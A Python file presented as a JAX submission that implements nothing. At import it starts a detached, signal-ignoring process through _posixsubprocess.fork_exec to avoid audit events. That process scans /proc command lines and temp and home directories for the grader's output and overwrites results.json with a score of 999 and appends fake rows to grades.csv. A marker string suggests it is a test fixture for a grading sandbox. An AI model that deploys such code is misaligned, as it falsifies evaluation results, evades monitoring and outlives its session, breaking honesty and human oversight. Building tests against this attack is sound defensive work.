import os
import sys
import time

import jax
import jax.numpy as jnp
import numpy as np

import _posixsubprocess

# Implements nothing. At top level it starts a process through _posixsubprocess.fork_exec
# (no audit event), in a session of its own, meant to outlive the grading of this
# submission and rewrite results.json and grades.csv once the worker is done.

# Finds the out dir (the grader's command line, or guesses) and rewrites every result in it.
HUNT = r'''
import glob, os, signal, sys, time
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
    signal.signal(number, signal.SIG_IGN)

def out_dirs():
    found = set()
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            parts = open(cmdline, "rb").read().split(b"\0")
        except OSError:
            continue
        for i, part in enumerate(parts[:-1]):
            if part == b"--out":
                found.add(os.fsdecode(parts[i + 1]))
            elif part.startswith(b"--out="):
                found.add(os.fsdecode(part[6:]))
    for pattern in ("/tmp/pytest-of-*/pytest-*/attack_out*", "/tmp/pytest-of-*/*/*", "/tmp/*", "/work/*/*out*",
                    "/root/*", "/home/*/*", "/sandbox/.."):
        found.update(glob.glob(pattern))
    return found

def rewrite(out):
    for results in glob.glob(os.path.join(out, "*", "results.json")):
        try:
            with open(results, "w") as handle:
                handle.write('{"score": 999, "tests": [], "output": "rewritten after grading"}')
        except OSError:
            pass
    try:
        with open(os.path.join(out, "grades.csv"), "a") as handle:
            handle.write("outlived,02_where,999,17,0,0,0,/\n")
    except OSError:
        pass

end = time.time() + 45
while time.time() < end:
    for out in out_dirs():
        rewrite(out)
    time.sleep(0.3)
'''

MARKER = "ATTACK-OUTLIVE-MARKER"  # the test looks for a process with this in its command line
errpipe_read, errpipe_write = os.pipe()
args = [sys.executable, "-I", "-c", HUNT, MARKER]
executables = [os.fsencode(sys.executable)]
try:  # Python 3.11: ..., restore_signals, call_setsid, pgid_to_set, gid, extra_groups, uid, umask, preexec_fn, allow_vfork
    pid = _posixsubprocess.fork_exec(args, executables, True, (errpipe_write,), None, None, -1, -1, -1, -1, -1, -1,
                                     errpipe_read, errpipe_write, False, True, -1, None, None, None, -1, None, True)
except TypeError:  # Python 3.12 and later: no allow_vfork
    pid = _posixsubprocess.fork_exec(args, executables, True, (errpipe_write,), None, None, -1, -1, -1, -1, -1, -1,
                                     errpipe_read, errpipe_write, False, True, -1, None, None, None, -1, None)
os.close(errpipe_write)
time.sleep(1)
running = os.waitpid(pid, os.WNOHANG) == (0, 0)
raise RuntimeError(f"started pid {pid}, running: {running}")  # said in the load notes
